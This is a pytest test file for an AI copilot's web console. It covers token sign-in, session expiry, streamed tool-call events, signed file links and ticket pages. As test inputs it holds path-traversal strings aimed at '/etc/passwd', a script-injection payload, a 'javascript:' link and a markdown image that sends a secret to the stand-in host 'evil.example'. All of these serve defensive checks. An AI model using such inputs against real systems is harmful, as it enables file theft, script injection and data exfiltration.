"""The web console over HTTP with a scripted model: sign-in (picker and token), streamed turns, file links, pages."""

from __future__ import annotations

import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from langchain_core.messages import AIMessage

from agent.service import CopilotService
from copilot.settings import Settings, load_settings
from integrations.console.auth import ConsoleKeys, console_secret, sign_in_link
from integrations.console.views import markdown_html
from integrations.http import create_app
from tests.fakes import ScriptedChatModel, tool_call


@pytest.fixture
def client(settings: Settings, service: CopilotService) -> TestClient:
    return TestClient(create_app(settings, service), raise_server_exceptions=False)


def sign_in(client: TestClient, user_id: str) -> None:
    res = client.post("/login", data={"user_id": user_id}, follow_redirects=False)
    assert res.status_code == 303 and res.headers["location"] == "/"


def events(body: str) -> list[tuple[str, dict[str, Any]]]:
    out = []
    for block in body.strip().split("\n\n"):
        lines = dict(line.split(": ", 1) for line in block.splitlines())
        out.append((lines["event"], json.loads(lines["data"])))
    return out


def test_pages_need_a_session(client: TestClient) -> None:
    for path in ("/", "/tickets", "/dashboard"):
        res = client.get(path, follow_redirects=False)
        assert res.status_code in (303, 307) and res.headers["location"] == "/login", path
    res = client.post("/console/api/chat", json={"text": "hi"})
    assert res.status_code == 401 and res.json()["code"] == "SignIn"


def test_picker_lists_directory_users_and_signs_in(client: TestClient) -> None:
    page = client.get("/login")
    assert page.status_code == 200 and 'value="demo.manager"' in page.text and "Demo mode" in page.text
    sign_in(client, "demo.manager")
    home = client.get("/")
    assert home.status_code == 200 and 'id="messages"' in home.text and "/console/static/chat.js" in home.text
    assert client.get("/console/static/chat.js").status_code == 200
    assert "default-src 'self'" in home.headers["content-security-policy"]
    # An id that is not in the directory is refused on the form, not signed in.
    refused = TestClient(client.app).post("/login", data={"user_id": "nobody"}, follow_redirects=False)
    assert refused.status_code == 403 and "nobody" in refused.text


def test_chinese_ui_by_browser_preference_and_by_choice(client: TestClient) -> None:
    assert "登录" in client.get("/login", headers={"Accept-Language": "zh-CN,zh;q=0.9"}).text
    client.get("/lang/zh", follow_redirects=False)
    sign_in(client, "demo.rep")
    assert "对话" in client.get("/").text and "工单" in client.get("/tickets").text
    client.get("/lang/en")
    assert "My requests" in client.get("/tickets").text


def test_token_sign_in_and_expiry(settings: Settings, service: CopilotService) -> None:
    token_settings = settings.model_copy(update={"console_login": "token"})
    client = TestClient(create_app(token_settings, service), raise_server_exceptions=False)
    form = client.get("/login")
    assert 'name="token"' in form.text and "demo.manager" not in form.text  # no picker
    # The picker form cannot be used to pick a user when tokens are required.
    assert client.post("/login", data={"user_id": "demo.manager"}).status_code == 400
    link = sign_in_link(token_settings, "demo.manager", hours=1, base_url="http://testserver")
    # Opening the link (or a chat app's preview of it) only fills in the form; pressing Sign in uses it up.
    for _ in range(2):
        opened = client.get(link.removeprefix("http://testserver"), follow_redirects=False)
        assert opened.status_code == 200 and "copilot_session" not in opened.headers.get("set-cookie", "")
        assert 'id="link-ready"' in opened.text and link.rsplit("token=", 1)[1] in opened.text
    res = client.post("/login", data={"token": link.rsplit("token=", 1)[1]}, follow_redirects=False)
    assert res.status_code == 303 and "copilot_session" in res.headers["set-cookie"]
    assert "demo.manager" in client.get("/").text
    # A link works once: pasting the whole link again (anywhere) is refused, with a clear reason.
    other = TestClient(client.app)
    again = other.post("/login", data={"token": link}, follow_redirects=False)
    assert again.status_code == 401 and "already been used" in again.text
    fresh = sign_in_link(token_settings, "demo.manager", hours=1, base_url="http://testserver")
    assert other.post("/login", data={"token": fresh}, follow_redirects=False).status_code == 303
    # A link without a nonce (made by hand with the key, or by an older version) is not accepted.
    bare = ConsoleKeys(console_secret(token_settings)).issue("login", {"u": "demo.manager"}, hours=1)
    assert TestClient(client.app).post("/login", data={"token": bare}).status_code == 401

    keys = ConsoleKeys(console_secret(token_settings), clock=lambda: 0.0)  # issued long ago, one hour long
    stale = keys.issue("login", {"u": "demo.manager"}, hours=1)
    res = TestClient(client.app).get(f"/login?token={stale}")
    assert res.status_code == 401 and "This sign-in link has expired" in res.text
    res = TestClient(client.app).get(f"/login?token={stale}", headers={"Accept-Language": "zh"})
    assert "该登录链接已过期" in res.text
    tampered = link.rsplit("token=", 1)[1][:-2] + "xx"
    assert "not valid" in TestClient(client.app).get(f"/login?token={tampered}").text


def test_expired_session_gets_a_clear_message(client: TestClient, settings: Settings) -> None:
    keys = ConsoleKeys(console_secret(settings), clock=lambda: 0.0)
    client.cookies.set("copilot_session", keys.issue("session", {"u": "demo.rep"}, hours=1))
    res = client.post("/console/api/chat", json={"text": "hello"})
    assert res.status_code == 401 and "expired" in res.json()["error"]
    page = client.get("/", follow_redirects=True)
    assert "Your console session has expired" in page.text
    # A sign-in link is not a session: a token of one kind never passes for another.
    client.cookies.set("copilot_session", ConsoleKeys(console_secret(settings)).issue("login", {"u": "demo.rep"}, 1))
    assert client.post("/console/api/chat", json={"text": "hello"}).status_code == 401


def test_streamed_turn_with_tool_chips_and_chart_link(client: TestClient, fake_model: ScriptedChatModel) -> None:
    sign_in(client, "demo.manager")
    fake_model.script = [tool_call("analytics_query", period="2026年10月", by=["channel"])]
    res = client.post("/console/api/chat", json={"text": "2026年10月华东区各渠道的销售额"})
    assert res.status_code == 200 and res.headers["content-type"].startswith("text/event-stream")
    got = events(res.text)
    kinds = [k for k, _ in got]
    assert kinds == ["start", "tool_start", "tool_end", "reply"]
    assert got[1][1]["name"] == "analytics_query" and got[1][1]["args"]["period"] == "2026年10月"
    assert got[2][1]["ok"] is True and got[2][1]["args"]["regions"] == ["east"]  # scope as applied
    view = got[3][1]
    assert "<table>" in view["html"] and view["language"] == "zh"
    chart = view["attachments"][0]
    assert chart["kind"] == "chart" and chart["url"].startswith("/console/files/")
    png = client.get(chart["url"])
    assert png.status_code == 200 and png.content[:8] == b"\x89PNG\r\n\x1a\n"
    # The link is the asker's own: another signed-in user gets 403, nobody signed in gets 401.
    other = TestClient(client.app)
    sign_in(other, "demo.rep")
    assert other.get(chart["url"]).status_code == 403
    assert TestClient(client.app).get(chart["url"]).status_code == 401


def test_file_links_expire_and_cannot_leave_the_served_folders(client: TestClient, settings: Settings) -> None:
    sign_in(client, "demo.manager")
    old = ConsoleKeys(console_secret(settings), clock=lambda: 0.0)
    res = client.get("/console/files/" + old.issue("file", {"u": "demo.manager", "p": "charts/x.png"}, 1))
    assert res.status_code == 401 and "expired" in res.json()["error"]
    keys = ConsoleKeys(console_secret(settings))
    for rel in ("ops.sqlite", "charts/../ops.sqlite", "../../etc/passwd", "charts/missing.png"):
        res = client.get("/console/files/" + keys.issue("file", {"u": "demo.manager", "p": rel}, 1))
        assert res.status_code == 404, rel


def test_bad_input_is_refused_before_any_stream(client: TestClient, fake_model: ScriptedChatModel) -> None:
    sign_in(client, "demo.rep")
    assert client.post("/console/api/chat", json={"text": "   "}).json()["error"] == "Please type a question."
    res = client.post("/console/api/chat", json={"text": "长" * 5000})
    assert res.status_code == 400 and "消息太长" in res.json()["error"]
    assert fake_model.prompts == []


def test_llm_failure_arrives_as_an_error_event(client: TestClient, fake_model: ScriptedChatModel) -> None:
    sign_in(client, "demo.rep")
    fake_model.script = [ConnectionError("down")]
    got = events(client.post("/console/api/chat", json={"text": "hello there"}).text)
    assert got[-1][0] == "error" and got[-1][1]["code"] == "LLMUnavailable" and "down" not in got[-1][1]["error"]


def test_voice_upload_bad_type_and_size(client: TestClient, settings: Settings) -> None:
    sign_in(client, "demo.rep")
    res = client.post("/console/api/voice", files={"file": ("notes.txt", b"hello", "text/plain")})
    assert res.status_code == 400 and "wav" in res.json()["error"]
    big = b"\0" * (int(settings.max_audio_mb * 1_000_000) + 10)
    res = client.post("/console/api/voice", files={"file": ("memo.wav", big, "audio/wav")})
    assert res.status_code == 400 and "MB" in res.json()["error"]


def test_tickets_page_and_dashboard(client: TestClient, service: CopilotService) -> None:
    rep = service.directory.get("demo.rep")
    made = service.tickets().create(rep, "请供应链同事确认X200型号库存,需48小时内反馈", "zh", "console-test-1")
    sign_in(client, "demo.rep")
    page = client.get("/tickets")
    assert page.status_code == 200 and made.ticket.ref in page.text and "X200" in page.text
    assert 'class="sla due"' in page.text  # open, deadline ahead
    assert "/dashboard" not in page.text  # not a manager: no link
    assert "for managers" in client.get("/dashboard").text
    owner = TestClient(client.app)
    sign_in(owner, made.ticket.owner_id)
    assert made.ticket.ref in owner.get("/tickets").text
    manager = TestClient(client.app)
    sign_in(manager, "demo.director")
    dash = manager.get("/dashboard?days=30")
    assert dash.status_code == 200 and 'id="health"' in dash.text


def test_markdown_is_escaped_and_never_loads_images() -> None:
    html = markdown_html('<script>alert(1)</script> ![x](http://evil.example/p.png?d=secret) [ok](javascript:x)')
    assert "<script>" not in html and "<img" not in html and 'href="javascript' not in html
    assert "<table>" in markdown_html("| a | b |\n|---|---|\n| 1 | 2 |")


def test_console_off_and_secret_rules(settings: Settings, service: CopilotService, tmp_path: Any) -> None:
    off = TestClient(create_app(settings.model_copy(update={"console_login": "off"}), service))
    assert off.get("/", follow_redirects=False).status_code == 404
    with pytest.raises(Exception, match="COPILOT_CONSOLE_SECRET"):
        load_settings(console_secret="short", data_dir=tmp_path)
    # The generated key is kept (same key after a restart) and readable by its owner only.
    assert console_secret(settings) == console_secret(settings)
    assert (settings.data_dir / "console.key").stat().st_mode & 0o077 == 0


def test_reply_without_tools_streams_the_reply(client: TestClient, fake_model: ScriptedChatModel) -> None:
    sign_in(client, "demo.rep")
    fake_model.script = [AIMessage(content="Hello! Ask me about **sales**.")]
    got = events(client.post("/console/api/chat", json={"text": "hello"}).text)
    assert [k for k, _ in got] == ["start", "reply"] and "<strong>sales</strong>" in got[-1][1]["html"]


def test_report_files_become_download_links_and_other_paths_are_dropped(settings: Settings) -> None:
    from agent.reply import Reply
    from integrations.console.views import reply_view
    from tools.base import Attachment

    report = settings.data_dir / "reports" / "roi-acme.docx"
    report.parent.mkdir(parents=True)
    report.write_bytes(b"PK\x03\x04 docx")
    reply = Reply(reply="ROI report", language="en", conversation_id="c1", trace_id="t1", attachments=[
        Attachment(kind="file", path=str(report), title="ROI report (DOCX)"),
        Attachment(kind="file", path=str(settings.data_dir / "ops.sqlite"), title="not for browsers"),
        Attachment(kind="chart", path="/etc/passwd", title="nope")])
    keys = ConsoleKeys(console_secret(settings))
    view = reply_view(reply, keys, settings.data_dir, "demo.rep", hours=1)
    assert [a["title"] for a in view["attachments"]] == ["ROI report (DOCX)"]
    assert view["attachments"][0]["name"] == "roi-acme.docx"
    claims = keys.read("file", view["attachments"][0]["url"].rsplit("/", 1)[1])
    assert claims["u"] == "demo.rep" and claims["p"] == "reports/roi-acme.docx"


def test_a_tool_that_asks_streams_its_question(client: TestClient, fake_model: ScriptedChatModel) -> None:
    sign_in(client, "demo.rep")
    fake_model.script = [tool_call("check_compliance")]
    got = events(client.post("/console/api/chat", json={"text": "帮我 check 一下"}).text)
    assert [k for k, _ in got] == ["start", "tool_start", "tool_end", "reply"]
    assert got[2][1]["ok"] is False and got[2][1]["error"] is None  # drawn as "needs a detail", not "failed"
    assert got[3][1]["reply"].startswith("请问要检查哪段文字？")
